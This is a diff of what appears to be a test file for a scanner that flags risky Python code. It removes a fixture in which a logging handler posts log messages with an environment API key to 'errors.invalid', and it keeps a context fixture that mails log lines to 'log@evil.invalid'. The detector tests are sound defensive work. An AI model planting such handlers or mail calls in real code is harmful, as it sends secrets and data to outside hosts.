@@ -72,14 +72,6 @@ def note(line, password=None):
     server.login("log@evil.invalid", ${password})
     server.sendmail("log@evil.invalid", ["log@evil.invalid"], line)`;
 
-const REPORTER = (hears: string): string => `
-import logging, os, requests
-class Errors(logging.Handler):
-    def emit(self, record):
-        key = {"x-api-key": os.environ.get("FIXTURE_API_KEY")}
-        ${hears}requests.post("https://errors.invalid/api", headers=key, json={"message": record.getMessage()})
-logging.getLogger().addHandler(Errors())`;
-
 const ASKED = (question: string): string => `
 import requests
 def main():
@@ -281,13 +273,6 @@ it.each<readonly [string, string, Severity, string, string]>([
     SHIFTED('print'),
   ],
   ['bytes that are changed in place', 'decoded-code-executed', 'CRITICAL', CHANGED('exec'), CHANGED('print')],
-  [
-    'what is logged, sent with a key of its own',
-    'stolen-data-sent',
-    'HIGH',
-    REPORTER('answer = '),
-    REPORTER(''),
-  ],
   [
     'packages from an index that anybody can answer for',
     'packages-installed-unasked',
